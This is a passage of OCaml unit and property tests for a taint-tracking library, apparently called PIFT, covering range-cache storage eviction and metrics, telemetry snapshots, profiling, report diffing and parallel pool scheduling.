  List.iter (Deferred.observe d)
    [ load (r 0 1) 1; store (r 10 11) 2; store (r 20 21) 3 ];
  checki "buffered 3" 3 (Deferred.buffered d);
  Deferred.tick d;
  checki "drained 2" 1 (Deferred.buffered d);
  Deferred.tick d;
  checki "drained all" 0 (Deferred.buffered d)

(* --- Storage -------------------------------------------------------------- *)

let test_storage_basic () =
  let s = Storage.create ~entries:4 () in
  Storage.insert s ~pid:1 (r 100 110);
  checkb "hit" true (Storage.lookup s ~pid:1 (r 105 120));
  checkb "miss" false (Storage.lookup s ~pid:1 (r 200 210));
  checkb "pid miss" false (Storage.lookup s ~pid:2 (r 100 110));
  checki "occupancy" 1 (Storage.occupancy s);
  Storage.remove s ~pid:1 (r 104 106);
  checkb "left piece" true (Storage.lookup s ~pid:1 (r 100 103));
  checkb "cut gone" false (Storage.lookup s ~pid:1 (r 104 106));
  checkb "right piece" true (Storage.lookup s ~pid:1 (r 107 110));
  checki "split occupancy" 2 (Storage.occupancy s)

let test_storage_lru () =
  let s = Storage.create ~entries:2 ~eviction:Storage.Lru_writeback () in
  Storage.insert s ~pid:1 (r 0 9);
  Storage.insert s ~pid:1 (r 20 29);
  (* touch the first so the second is older *)
  ignore (Storage.lookup s ~pid:1 (r 0 0));
  Storage.insert s ~pid:1 (r 40 49);
  let st = Storage.stats s in
  checki "one eviction" 1 st.Storage.evictions;
  (* the evicted range is still found through secondary storage *)
  checkb "secondary hit" true (Storage.lookup s ~pid:1 (r 20 29));
  let st = Storage.stats s in
  checki "secondary hits" 1 st.Storage.secondary_hits

let test_storage_drop () =
  let s = Storage.create ~entries:2 ~eviction:Storage.Drop () in
  Storage.insert s ~pid:1 (r 0 9);
  Storage.insert s ~pid:1 (r 20 29);
  Storage.insert s ~pid:1 (r 40 49);
  let st = Storage.stats s in
  checki "dropped" 1 st.Storage.drops;
  checkb "dropped range lost" false (Storage.lookup s ~pid:1 (r 40 49))

let test_storage_granularity () =
  let s = Storage.create ~entries:8 ~granularity:(Some 4) () in
  Storage.insert s ~pid:1 (r 17 18);
  (* 16-byte blocks: [16,31] becomes tainted *)
  checkb "block overtaint" true (Storage.lookup s ~pid:1 (r 30 30));
  checkb "next block clean" false (Storage.lookup s ~pid:1 (r 32 40))

let test_storage_context_switch () =
  let s = Storage.create ~entries:4 () in
  Storage.insert s ~pid:1 (r 0 9);
  Storage.insert s ~pid:2 (r 20 29);
  Storage.context_switch s;
  checki "flushed" 0 (Storage.occupancy s);
  checkb "still visible via secondary" true (Storage.lookup s ~pid:1 (r 0 9));
  checkb "pid 2 too" true (Storage.lookup s ~pid:2 (r 20 29))

(* Eviction paths under a live metrics registry, for every secondary
   backend: capacity pressure under Lru_writeback must count evictions
   and writebacks (and keep evicted state reachable through secondary
   hits + promotion), Drop must count drops and lose the range, and the
   occupancy gauge must track valid primary entries. *)
let storage_counter registry name =
  match Pift_obs.Registry.find_counter registry name with
  | Some v -> v
  | None -> Alcotest.failf "counter %s not registered" name

let test_storage_lru_eviction_metrics () =
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let registry = Pift_obs.Registry.create () in
      let s =
        Storage.create ~entries:2 ~eviction:Storage.Lru_writeback ~backend
          ~metrics:registry ()
      in
      Storage.insert s ~pid:1 (r 0 9);
      Storage.insert s ~pid:1 (r 20 29);
      checkb (name "no eviction while capacity lasts") true
        (storage_counter registry "pift_storage_evictions_total" = 0);
      (* touch the first entry so the second is least recently used *)
      checkb (name "primary hit") true (Storage.lookup s ~pid:1 (r 0 0));
      Storage.insert s ~pid:1 (r 40 49);
      checki (name "one eviction")
        1 (storage_counter registry "pift_storage_evictions_total");
      checki (name "eviction wrote back")
        1 (storage_counter registry "pift_storage_writebacks_total");
      checkb (name "occupancy gauge full") true
        (Pift_obs.Registry.find_gauge registry "pift_storage_occupancy"
        = Some 2.0);
      (* the evicted range is only in secondary storage now: a lookup is
         a secondary hit and promotes it back, evicting the next LRU *)
      checkb (name "evicted range still reachable") true
        (Storage.lookup s ~pid:1 (r 20 29));
      checki (name "secondary hit counted")
        1 (storage_counter registry "pift_storage_secondary_hits_total");
      checki (name "promotion evicted the next LRU")
        2 (storage_counter registry "pift_storage_evictions_total");
      checki (name "second writeback")
        2 (storage_counter registry "pift_storage_writebacks_total");
      checki (name "promotion is an insertion")
        4 (storage_counter registry "pift_storage_insertions_total");
      (* the newly-evicted range went through the same cycle *)
      checkb (name "second evicted range still reachable") true
        (Storage.lookup s ~pid:1 (r 0 9));
      checki (name "second secondary hit")
        2 (storage_counter registry "pift_storage_secondary_hits_total");
      checki (name "drops never fire under Lru_writeback")
        0 (storage_counter registry "pift_storage_drops_total");
      (* counters mirror stats exactly *)
      let st = Storage.stats s in
      checki (name "stats/evictions agree") st.Storage.evictions
        (storage_counter registry "pift_storage_evictions_total");
      checki (name "stats/writebacks agree") st.Storage.writebacks
        (storage_counter registry "pift_storage_writebacks_total");
      checki (name "stats/secondary agree") st.Storage.secondary_hits
        (storage_counter registry "pift_storage_secondary_hits_total");
      checki (name "stats/lookups agree") st.Storage.lookups
        (storage_counter registry "pift_storage_lookups_total"))
    [ Store.Functional; Store.Flat ]

let test_storage_drop_metrics () =
  let registry = Pift_obs.Registry.create () in
  let s =
    Storage.create ~entries:2 ~eviction:Storage.Drop ~metrics:registry ()
  in
  Storage.insert s ~pid:1 (r 0 9);
  Storage.insert s ~pid:1 (r 20 29);
  Storage.insert s ~pid:1 (r 40 49);
  checki "one drop" 1 (storage_counter registry "pift_storage_drops_total");
  checki "no evictions under Drop" 0
    (storage_counter registry "pift_storage_evictions_total");
  checki "no writebacks under Drop" 0
    (storage_counter registry "pift_storage_writebacks_total");
  checkb "dropped range is lost" false (Storage.lookup s ~pid:1 (r 40 49));
  checkb "no secondary rescue under Drop" true
    (storage_counter registry "pift_storage_secondary_hits_total" = 0);
  checkb "occupancy gauge stays at capacity" true
    (Pift_obs.Registry.find_gauge registry "pift_storage_occupancy"
    = Some 2.0);
  checkb "resident ranges survive" true
    (Storage.lookup s ~pid:1 (r 0 9) && Storage.lookup s ~pid:1 (r 20 29))

let test_store_backends () =
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let sets = Store.create ~backend () in
      sets.Store.add ~pid:1 (r 0 9);
      sets.Store.add ~pid:2 (r 20 24);
      checkb (name "overlap") true (sets.Store.overlaps ~pid:1 (r 5 6));
      checki (name "bytes across pids") 15 (sets.Store.tainted_bytes ());
      checki (name "count") 2 (sets.Store.range_count ());
      sets.Store.remove ~pid:1 (r 0 9);
      checki (name "bytes after remove") 5 (sets.Store.tainted_bytes ()))
    Store.all_backends

let test_hw_model () =
  let report =
    Hw_model.estimate ~total_insns:1_000_000 ~loads:100_000 ~stores:50_000
      ~secondary_hits:100 ()
  in
  checki "events" 150_000 report.Hw_model.pift_events;
  checkb "overhead small" true (report.Hw_model.pift_overhead_pct < 1.0);
  checkb "sw dift big" true (report.Hw_model.sw_dift_overhead_pct > 100.0);
  checkb "reduction" true (report.Hw_model.event_reduction > 6.0)

(* Differential property: an unbounded hardware cache answers overlap
   queries exactly like the software range set. *)
let prop_storage_store_agreement =
  QCheck2.Test.make
    ~name:"unbounded range cache agrees with the exact range set"
    ~count:200
    QCheck2.Gen.(list_size (int_range 1 60) op_gen)
    (fun ops ->
      let exact = Store.create () in
      let cache = Store.of_storage (Storage.create ~entries:4096 ()) in
      let ok = ref true in
      List.iter
        (fun (op, range) ->
          match op with
          | 0 ->
              exact.Store.add ~pid:1 range;
              cache.Store.add ~pid:1 range
          | 1 ->
              exact.Store.remove ~pid:1 range;
              cache.Store.remove ~pid:1 range
          | _ ->
              if
                exact.Store.overlaps ~pid:1 range
                <> cache.Store.overlaps ~pid:1 range
              then ok := false)
        ops;
      (* final per-byte agreement *)
      for x = 0 to 150 do
        if
          exact.Store.overlaps ~pid:1 (Range.byte x)
          <> cache.Store.overlaps ~pid:1 (Range.byte x)
        then ok := false
      done;
      !ok)

let qsuite =
  List.map QCheck_alcotest.to_alcotest
    [
      prop_range_set_model; prop_tracker_reference;
      prop_storage_store_agreement;
    ]

let () =
  Alcotest.run "pift_core"
    [
      ("policy", [ Alcotest.test_case "validation" `Quick test_policy ]);
      ( "range_set",
        [
          Alcotest.test_case "basics" `Quick test_range_set_basic;
          Alcotest.test_case "coalescing" `Quick test_range_set_coalesce;
          Alcotest.test_case "removal" `Quick test_range_set_remove;
        ] );
      ( "tracker",
        [
          Alcotest.test_case "window" `Quick test_tracker_window;
          Alcotest.test_case "NT cap" `Quick test_tracker_nt_cap;
          Alcotest.test_case "window restart" `Quick
            test_tracker_window_restart;
          Alcotest.test_case "untaint switch" `Quick
            test_tracker_untaint_disabled;
          Alcotest.test_case "untaint dip in series" `Quick
            test_tracker_untaint_range_records_dip;
          Alcotest.test_case "per-pid state" `Quick test_tracker_per_pid;
          Alcotest.test_case "10-event stats vs metrics" `Quick
            test_tracker_ten_event_counts;
        ] );
      ("differential", qsuite);
      ( "provenance",
        [
          Alcotest.test_case "labels" `Quick test_provenance_labels;
          Alcotest.test_case "union & untaint" `Quick
            test_provenance_union_and_untaint;
          Alcotest.test_case "NT cap with merged labels" `Quick
            test_provenance_nt_cap_merged_labels;
          Alcotest.test_case "entries sorted" `Quick
            test_provenance_entries_sorted;
          Alcotest.test_case "backends agree" `Quick
            test_provenance_backends_agree;
        ] );
      ( "deferred",
        [
          Alcotest.test_case "equals online" `Quick test_deferred_equals_online;
          Alcotest.test_case "overflow drops" `Quick
            test_deferred_overflow_drops;
          Alcotest.test_case "tick" `Quick test_deferred_tick;
        ] );
      ( "storage",
        [
          Alcotest.test_case "basics" `Quick test_storage_basic;
          Alcotest.test_case "LRU writeback" `Quick test_storage_lru;
          Alcotest.test_case "drop policy" `Quick test_storage_drop;
          Alcotest.test_case "granularity" `Quick test_storage_granularity;
          Alcotest.test_case "context switch" `Quick
            test_storage_context_switch;
          Alcotest.test_case "LRU eviction metrics (per backend)" `Quick
            test_storage_lru_eviction_metrics;
          Alcotest.test_case "drop metrics" `Quick test_storage_drop_metrics;
        ] );
      ( "store & model",
        [
          Alcotest.test_case "backends" `Quick test_store_backends;
          Alcotest.test_case "hw model" `Quick test_hw_model;
        ] );
    ]
