(* Tests for the continuous-telemetry layer: snapshot rings and their
   cadence, the overhead-attribution profiler's folded stacks, the
   report --diff comparison engine, the pift top / progress fallbacks,
   and the guarantee that none of it perturbs replay results. *)

module Telemetry = Pift_obs.Telemetry
module Profile = Pift_obs.Profile
module Diff = Pift_obs.Diff
module Top = Pift_obs.Top
module Progress = Pift_obs.Progress
module Json = Pift_obs.Json
module Policy = Pift_core.Policy
module Recorded = Pift_eval.Recorded

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)
let checkf = Alcotest.(check (float 1e-9))

let contains haystack needle =
  let n = String.length needle and h = String.length haystack in
  let rec go i = i + n <= h && (String.sub haystack i n = needle || go (i + 1)) in
  n = 0 || go 0

(* --- telemetry ring ------------------------------------------------------ *)

let test_cadence () =
  let t = Telemetry.create ~every:10 () in
  let live = ref 0. in
  Telemetry.set_source t ~name:"x" (fun () -> !live);
  for i = 1 to 35 do
    live := float_of_int i;
    Telemetry.bump t
  done;
  checki "events counted" 35 (Telemetry.events t);
  checki "snapshots on the every-N cadence" 3 (Telemetry.taken t);
  checki "nothing dropped" 0 (Telemetry.dropped t);
  checkf "latest reads the live source" 30. (List.assoc "x" (Telemetry.latest t));
  Telemetry.sample_now t;
  checki "sample_now takes one more" 4 (Telemetry.taken t);
  checkf "final reading" 35. (List.assoc "x" (Telemetry.latest t));
  (match Telemetry.snapshots t with
  | first :: _ ->
      checki "sequence starts at zero" 0 first.Telemetry.sn_seq;
      checki "first snapshot at the tenth event" 10 first.Telemetry.sn_events
  | [] -> Alcotest.fail "no snapshots")

let test_source_replacement () =
  (* A sweep rebinds "tainted_bytes" per grid cell on the same per-slot
     instance; the snapshot must read the newest closure, once. *)
  let t = Telemetry.create ~every:0 () in
  Telemetry.set_source t ~name:"v" (fun () -> 1.);
  Telemetry.sample_now t;
  Telemetry.set_source t ~name:"v" (fun () -> 2.);
  Telemetry.sample_now t;
  (match Telemetry.snapshots t with
  | [ a; b ] ->
      checkf "first binding" 1. (List.assoc "v" a.Telemetry.sn_values);
      checkf "rebound, not accumulated" 2. (List.assoc "v" b.Telemetry.sn_values);
      checki "one entry per name" 1 (List.length b.Telemetry.sn_values)
  | l -> Alcotest.failf "expected 2 snapshots, got %d" (List.length l))

let test_ring_overflow () =
  let t = Telemetry.create ~capacity:4 ~every:1 () in
  Telemetry.set_source t ~name:"n" (fun () -> 0.);
  for _ = 1 to 10 do
    Telemetry.bump t
  done;
  checki "all snapshots counted" 10 (Telemetry.taken t);
  checki "ring keeps only capacity" 4 (Telemetry.length t);
  checki "overflow surfaced as dropped" 6 (Telemetry.dropped t);
  (match Telemetry.snapshots t with
  | first :: _ -> checki "survivors are the newest" 6 first.Telemetry.sn_seq
  | [] -> Alcotest.fail "no snapshots");
  Telemetry.clear t;
  checki "clear resets events" 0 (Telemetry.events t);
  checki "clear resets dropped" 0 (Telemetry.dropped t)

let test_capacity_zero_off () =
  let t = Telemetry.create ~capacity:0 ~every:1 () in
  Telemetry.set_source t ~name:"n" (fun () -> 0.);
  for _ = 1 to 5 do
    Telemetry.bump t
  done;
  Telemetry.sample_now t;
  checki "capacity 0 records nothing" 0 (Telemetry.taken t);
  checki "and keeps nothing" 0 (Telemetry.length t);
  checkb "latest empty" true (Telemetry.latest t = [])

let test_merged_and_jsonl () =
  let slots = [| Telemetry.create ~every:0 (); Telemetry.create ~every:0 () |] in
  Array.iteri
    (fun i t ->
      Telemetry.set_source t ~name:"v" (fun () -> float_of_int i))
    slots;
  Telemetry.sample_now slots.(0);
  Telemetry.sample_now slots.(1);
  Telemetry.sample_now slots.(0);
  let merged = Telemetry.merged slots in
  checki "merged keeps every snapshot" 3 (List.length merged);
  checkb "timestamps non-decreasing" true
    (let ts = List.map (fun (_, s) -> s.Telemetry.sn_ts) merged in
     List.sort compare ts = ts);
  (* JSONL round trip through the report decoder *)
  let path = Filename.temp_file "pift_telemetry" ".jsonl" in
  let oc = open_out path in
  Telemetry.write_jsonl oc ~run:"unit" slots;
  close_out oc;
  let ic = open_in path in
  let lines = ref [] in
  (try
     while true do
       let l = input_line ic in
       if String.trim l <> "" then lines := Json.of_string l :: !lines
     done
   with End_of_file -> close_in ic);
  Sys.remove path;
  let f = Telemetry.of_json_lines (List.rev !lines) in
  checks "run name survives" "unit" f.Telemetry.f_run;
  checki "slot count survives" 2 f.Telemetry.f_slots;
  checki "taken survives" 3 f.Telemetry.f_taken;
  checki "dropped survives" 0 f.Telemetry.f_dropped;
  (match f.Telemetry.f_series with
  | [ s ] ->
      checks "series named by source" "v" s.Telemetry.se_name;
      checki "all points folded in" 3 (List.length s.Telemetry.se_points)
  | l -> Alcotest.failf "expected 1 series, got %d" (List.length l));
  (* rendering is total on well-formed input... *)
  let rendered =
    Format.asprintf "%a"
      (fun ppf () -> Telemetry.render_json_lines (List.rev !lines) ppf ())
      ()
  in
  checkb "render mentions the source" true (contains rendered "v");
  (* ...and loud on malformed lines *)
  checkb "malformed line raises" true
    (try
       ignore
         (Telemetry.of_json_lines [ Json.Obj [ ("pift_telemetry", Json.Int 3) ] ]);
       false
     with Telemetry.Malformed _ -> true)

let test_sparkline () =
  checks "empty input" "" (Telemetry.sparkline []);
  let s = Telemetry.sparkline [ 0.; 1.; 2.; 3. ] in
  checkb "monotone input is non-empty" true (String.length s > 0);
  (* downsampling caps the cell count (cells are 3-byte UTF-8 blocks) *)
  let wide = Telemetry.sparkline ~width:8 (List.init 100 float_of_int) in
  checkb "downsampled to width" true (String.length wide <= 8 * 3)

(* --- profiler ------------------------------------------------------------ *)

let spin () =
  let x = ref 0 in
  for i = 1 to 20_000 do
    x := !x + i
  done;
  ignore (Sys.opaque_identity !x)

let test_profile_nesting () =
  let p = Profile.create () in
  Profile.enter p "replay";
  spin ();
  Profile.enter p "tracker";
  spin ();
  Profile.leave p;
  spin ();
  Profile.leave p;
  let folded = Profile.folded p in
  let weight path = List.assoc path folded in
  checkb "self times are positive" true
    (weight "replay" > 0. && weight "replay;tracker" > 0.);
  checki "two regions" 2 (List.length folded);
  (* leave with nothing open is a no-op, not an exception *)
  Profile.leave p;
  checki "unbalanced leave ignored" 2 (List.length (Profile.folded p));
  Profile.reset p;
  checki "reset empties" 0 (List.length (Profile.folded p))

let test_profile_span () =
  checki "span None is just f" 7 (Profile.span None "x" (fun () -> 7));
  let p = Profile.create () in
  checkb "span closes on exceptions" true
    (try
       Profile.span (Some p) "boom" (fun () -> failwith "boom")
     with Failure _ -> true);
  checkb "raising region still attributed" true
    (List.mem_assoc "boom" (Profile.folded p));
  (* and the stack is balanced afterwards: a sibling lands at top level *)
  ignore (Profile.span (Some p) "after" (fun () -> ()));
  checkb "sibling not nested under the raiser" true
    (List.mem_assoc "after" (Profile.folded p))

let test_profile_merge_and_folded_string () =
  let a = Profile.create () and b = Profile.create () in
  ignore (Profile.span (Some a) "pool" (fun () -> spin ()));
  ignore (Profile.span (Some b) "pool" (fun () -> spin ()));
  ignore (Profile.span (Some b) "io" (fun () -> spin ()));
  let merged = Profile.merged [| a; b |] in
  (match merged with
  | (p0, w) :: _ ->
      checks "slot 0 order first" "pool" p0;
      checkb "weights summed" true
        (w > List.assoc "pool" (Profile.folded a) -. 1e-9
        && w > List.assoc "pool" (Profile.folded b) -. 1e-9)
  | [] -> Alcotest.fail "empty merge");
  checkb "later slot's new path appended" true (List.mem_assoc "io" merged);
  (* folded text round trip at µs precision *)
  let stacks = [ ("pool;replay;tracker", 0.000123); ("trace_io", 0.002) ] in
  let text = Profile.to_folded_string stacks in
  checks "flamegraph lines" "pool;replay;tracker 123\ntrace_io 2000\n" text;
  checkb "sniffs as folded" true (Profile.looks_like_folded text);
  checkb "json does not sniff as folded" true
    (not (Profile.looks_like_folded "{\"run\":\"x\"}"));
  (match Profile.parse_folded text with
  | [ ("pool;replay;tracker", w1); ("trace_io", w2) ] ->
      checkf "µs back to seconds" 0.000123 w1;
      checkf "second line too" 0.002 w2
  | _ -> Alcotest.fail "parse_folded mismatch");
  checkb "garbage raises Malformed" true
    (try
       ignore (Profile.parse_folded "no trailing integer here");
       false
     with Profile.Malformed _ -> true)

let test_profile_breakdown () =
  let stacks =
    [ ("pool;replay;tracker", 0.3); ("pool;replay;tracker;store", 0.1);
      ("pool;replay", 0.4); ("trace_io", 0.2) ]
  in
  let rows = Profile.breakdown stacks in
  let pct name =
    let _, _, p = List.find (fun (n, _, _) -> n = name) rows in
    p
  in
  checkf "replay share" 40. (pct "replay");
  checkf "tracker share" 30. (pct "tracker");
  checkf "store share" 10. (pct "store");
  checkf "trace_io share" 20. (pct "trace_io");
  (match rows with
  | (first, _, _) :: _ -> checks "sorted by share" "replay" first
  | [] -> Alcotest.fail "empty breakdown");
  checks "leaf of a path" "store" (Profile.leaf "pool;replay;tracker;store")

(* --- report --diff ------------------------------------------------------- *)

let obj fields = Json.Obj fields

let test_diff_identical () =
  let j = obj [ ("flat_replay_seconds", Json.Float 0.5);
                ("events_per_sec", Json.Float 1e6) ] in
  let r = Diff.compare_json ~baseline:j ~current:j () in
  checki "no regressions" 0 r.Diff.r_regressions;
  checki "both fields compared" 2 r.Diff.r_compared;
  checkb "no changes listed" true (r.Diff.r_changes = [])

let test_diff_directions () =
  (* seconds: higher is worse *)
  let base = obj [ ("flat_replay_seconds", Json.Float 1.0) ] in
  let cur = obj [ ("flat_replay_seconds", Json.Float 3.0) ] in
  let r = Diff.compare_json ~max_ratio:2.0 ~baseline:base ~current:cur () in
  checki "3x slower regresses at 2.0" 1 r.Diff.r_regressions;
  (match r.Diff.r_changes with
  | [ c ] ->
      checkb "direction inferred from path" true
        (c.Diff.c_direction = Diff.Higher_worse);
      checkf "severity is the worse-direction ratio" 3.0 c.Diff.c_severity
  | _ -> Alcotest.fail "expected one change");
  (* getting faster never regresses *)
  let r = Diff.compare_json ~max_ratio:2.0 ~baseline:cur ~current:base () in
  checki "3x faster is fine" 0 r.Diff.r_regressions;
  (* throughput: lower is worse *)
  let base = obj [ ("replay_events_per_sec", Json.Float 100. ) ] in
  let cur = obj [ ("replay_events_per_sec", Json.Float 40. ) ] in
  let r = Diff.compare_json ~max_ratio:2.0 ~baseline:base ~current:cur () in
  checki "2.5x less throughput regresses" 1 r.Diff.r_regressions;
  (* neutral fields never gate *)
  let base = obj [ ("rounds", Json.Int 5) ] in
  let cur = obj [ ("rounds", Json.Int 50) ] in
  let r = Diff.compare_json ~baseline:base ~current:cur () in
  checki "neutral change informs, not gates" 0 r.Diff.r_regressions;
  checki "but is still reported" 1 (List.length r.Diff.r_changes)

let test_diff_min_abs_floor () =
  let base = obj [ ("decode_seconds", Json.Float 0.001) ] in
  let cur = obj [ ("decode_seconds", Json.Float 0.003) ] in
  let loud = Diff.compare_json ~max_ratio:1.25 ~baseline:base ~current:cur () in
  checki "3x on µs noise regresses without a floor" 1 loud.Diff.r_regressions;
  let floored =
    Diff.compare_json ~max_ratio:1.25 ~min_abs:0.05 ~baseline:base ~current:cur ()
  in
  checki "min_abs floors sub-threshold deltas" 0 floored.Diff.r_regressions

let test_diff_bool_and_structure () =
  let base = obj [ ("identical_cells", Json.Bool true) ] in
  let cur = obj [ ("identical_cells", Json.Bool false) ] in
  let r = Diff.compare_json ~baseline:base ~current:cur () in
  checkb "true->false always regresses" true (r.Diff.r_regressions >= 1);
  (* false -> true is recovery, not regression *)
  let r = Diff.compare_json ~baseline:cur ~current:base () in
  checki "false->true is fine" 0 r.Diff.r_regressions;
  (* a field vanishing is a note, not a silent pass *)
  let base = obj [ ("a", Json.Int 1); ("b", Json.Int 2) ] in
  let cur = obj [ ("a", Json.Int 1) ] in
  let r = Diff.compare_json ~baseline:base ~current:cur () in
  checkb "missing field noted" true (r.Diff.r_notes <> [])

let test_diff_named_list_pairing () =
  let metric name v =
    obj [ ("name", Json.String name); ("value", Json.Int v) ]
  in
  let base = obj [ ("metrics", Json.List [ metric "a" 1; metric "b" 2 ]) ] in
  let cur = obj [ ("metrics", Json.List [ metric "b" 2; metric "a" 1 ]) ] in
  let r = Diff.compare_json ~baseline:base ~current:cur () in
  checki "reordered named lists pair by name" 0 r.Diff.r_regressions;
  checkb "nothing even changed" true (r.Diff.r_changes = [])

let test_diff_render () =
  let base = obj [ ("flat_replay_seconds", Json.Float 1.0) ] in
  let cur = obj [ ("flat_replay_seconds", Json.Float 3.0) ] in
  let r = Diff.compare_json ~max_ratio:2.0 ~baseline:base ~current:cur () in
  let text =
    Format.asprintf "%a"
      (fun ppf () -> Diff.render ~label_a:"old" ~label_b:"new" r ppf ())
      ()
  in
  checkb "regression rendered" true (contains text "REGRESSION");
  let ok = Diff.compare_json ~baseline:base ~current:base () in
  let text =
    Format.asprintf "%a" (fun ppf () -> Diff.render ok ppf ()) ()
  in
  checkb "clean diff says so" true (contains text "ok: no regressions")

(* --- top / progress fallbacks -------------------------------------------- *)

let test_top_disabled_is_silent () =
  let telems = [| Telemetry.create ~every:1 () |] in
  let top = Top.create ~enabled:false ~label:"unit" ~telems () in
  checkb "disabled stays disabled" true (not (Top.enabled top));
  Top.set_total top 10;
  for _ = 1 to 10 do
    Telemetry.bump telems.(0);
    Top.step top
  done;
  Top.finish top;
  Top.finish top (* idempotent *)

let test_progress_off_tty () =
  (* under the test runner stderr is not a tty: default-enabled progress
     must resolve to off, and forced progress must not raise *)
  let p = Progress.create ~label:"unit" ~total:5 () in
  for _ = 1 to 5 do
    Progress.step p
  done;
  Progress.finish p;
  let q = Progress.create ~enabled:false ~label:"unit" ~total:3 () in
  Progress.step q;
  Progress.finish q

(* --- replay results must not move ---------------------------------------- *)

let test_replay_unperturbed () =
  let app = Option.get (Pift_workloads.Droidbench.find "StringConcat1") in
  let recorded = Recorded.record app in
  let plain = Recorded.replay ~policy:Policy.default recorded in
  let telemetry = Telemetry.create ~every:1 () in
  let profile = Profile.create () in
  let observed =
    Recorded.replay ~telemetry ~profile ~policy:Policy.default recorded
  in
  checkb "stats identical" true (plain.Recorded.stats = observed.Recorded.stats);
  checkb "verdicts identical" true
    (plain.Recorded.verdicts = observed.Recorded.verdicts);
  checkb "telemetry actually sampled" true (Telemetry.taken telemetry > 0);
  checkb "tracker sources registered" true
    (List.mem_assoc "tainted_bytes" (Telemetry.latest telemetry));
  checkb "profiler saw the replay" true
    (List.exists
       (fun (path, _) -> Profile.leaf path = "tracker")
       (Profile.folded profile))

let () =
  Alcotest.run "pift_telemetry"
    [
      ( "telemetry",
        [
          Alcotest.test_case "cadence" `Quick test_cadence;
          Alcotest.test_case "source replacement" `Quick test_source_replacement;
          Alcotest.test_case "ring overflow" `Quick test_ring_overflow;
          Alcotest.test_case "capacity zero off" `Quick test_capacity_zero_off;
          Alcotest.test_case "merged + jsonl round trip" `Quick
            test_merged_and_jsonl;
          Alcotest.test_case "sparkline" `Quick test_sparkline;
        ] );
      ( "profile",
        [
          Alcotest.test_case "nesting self time" `Quick test_profile_nesting;
          Alcotest.test_case "span gating" `Quick test_profile_span;
          Alcotest.test_case "merge + folded text" `Quick
            test_profile_merge_and_folded_string;
          Alcotest.test_case "breakdown" `Quick test_profile_breakdown;
        ] );
      ( "diff",
        [
          Alcotest.test_case "identical" `Quick test_diff_identical;
          Alcotest.test_case "directions" `Quick test_diff_directions;
          Alcotest.test_case "min_abs floor" `Quick test_diff_min_abs_floor;
          Alcotest.test_case "bools and structure" `Quick
            test_diff_bool_and_structure;
          Alcotest.test_case "named list pairing" `Quick
            test_diff_named_list_pairing;
          Alcotest.test_case "render" `Quick test_diff_render;
        ] );
      ( "live view",
        [
          Alcotest.test_case "top disabled" `Quick test_top_disabled_is_silent;
          Alcotest.test_case "progress off tty" `Quick test_progress_off_tty;
        ] );
      ( "replay",
        [
          Alcotest.test_case "results unperturbed" `Quick
            test_replay_unperturbed;
        ] );
    ]
