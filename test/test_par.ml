(* Tests for Pift_par: pool scheduling semantics (ordering, chunking,
   exception propagation), Registry.merge as the per-domain metrics
   aggregation rule, and the end-to-end determinism guarantee — a
   parallel Accuracy.sweep must be indistinguishable from a serial one,
   cells and merged metrics both.  PIFT_TEST_JOBS overrides the domain
   count used by the parallel runs (default 4; CI also runs at 2). *)

module Pool = Pift_par.Pool
module Metric = Pift_obs.Metric
module Registry = Pift_obs.Registry
module Accuracy = Pift_eval.Accuracy

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

let test_jobs =
  match Sys.getenv_opt "PIFT_TEST_JOBS" with
  | Some s -> (
      match int_of_string_opt s with
      | Some n when n >= 1 -> n
      | _ -> 4)
  | None -> 4

(* --- pool --------------------------------------------------------------- *)

let test_map_matches_array_map () =
  List.iter
    (fun jobs ->
      List.iter
        (fun n ->
          let input = Array.init n (fun i -> i) in
          let expected = Array.map (fun x -> (x * 7) mod 13) input in
          let got =
            Pool.with_pool ~jobs (fun p ->
                Pool.map p ~f:(fun x -> (x * 7) mod 13) input)
          in
          checkb
            (Printf.sprintf "jobs=%d n=%d" jobs n)
            true (got = expected))
        [ 0; 1; 2; 17; 100 ])
    [ 1; 2; test_jobs ]

let test_more_jobs_than_items () =
  let got =
    Pool.with_pool ~jobs:8 (fun p ->
        Pool.map p ~f:(fun x -> x + 1) [| 10; 20 |])
  in
  checkb "2 items, 8 jobs" true (got = [| 11; 21 |])

let test_chunked_scheduling () =
  let input = Array.init 37 (fun i -> i) in
  let got =
    Pool.with_pool ~jobs:test_jobs (fun p ->
        Pool.map p ~chunk:5 ~f:(fun x -> x * x) input)
  in
  checkb "chunk=5 preserves order" true
    (got = Array.map (fun x -> x * x) input)

exception Boom of int

let test_exception_propagates () =
  Pool.with_pool ~jobs:test_jobs (fun p ->
      (try
         ignore
           (Pool.map p
              ~f:(fun x -> if x = 11 then raise (Boom x) else x)
              (Array.init 16 (fun i -> i)));
         Alcotest.fail "exception swallowed"
       with Boom 11 -> ());
      (* the pool survives a failed job and runs the next one *)
      let again = Pool.map p ~f:(fun x -> x + 1) [| 1; 2; 3 |] in
      checkb "pool usable after exception" true (again = [| 2; 3; 4 |]))

let test_map_reduce_fold_order () =
  let input = Array.init 12 (fun i -> string_of_int i) in
  (* non-commutative combine: string concatenation.  The fold must run
     sequentially in input-index order whatever the schedule. *)
  let got =
    Pool.with_pool ~jobs:test_jobs (fun p ->
        Pool.map_reduce p
          ~map:(fun s -> s ^ ".")
          ~combine:(fun acc s -> acc ^ s)
          ~init:"|" input)
  in
  checks "fold order" "|0.1.2.3.4.5.6.7.8.9.10.11." got

let test_map_slots_worker_bounds () =
  let jobs = test_jobs in
  Pool.with_pool ~jobs (fun p ->
      checki "pool jobs" jobs (Pool.jobs p);
      (* per-slot accumulators: no lock, summed after the region *)
      let per_slot = Array.init jobs (fun _ -> ref 0) in
      let input = Array.init 64 (fun i -> i) in
      let out =
        Pool.map_slots p
          ~f:(fun ~worker i x ->
            checkb "worker in range" true (worker >= 0 && worker < jobs);
            per_slot.(worker) := !(per_slot.(worker)) + 1;
            i + x)
        input
      in
      checkb "slots sum to items" true
        (Array.fold_left (fun a r -> a + !r) 0 per_slot = 64);
      checkb "results by input index" true
        (out = Array.init 64 (fun i -> 2 * i)))

(* --- Registry.merge ------------------------------------------------------ *)

let test_merge_counters_gauges () =
  let a = Registry.create () and b = Registry.create () in
  Metric.Counter.add (Registry.counter a "ops_total") 3;
  Metric.Counter.add (Registry.counter b "ops_total") 4;
  let ga = Registry.gauge a "bytes" and gb = Registry.gauge b "bytes" in
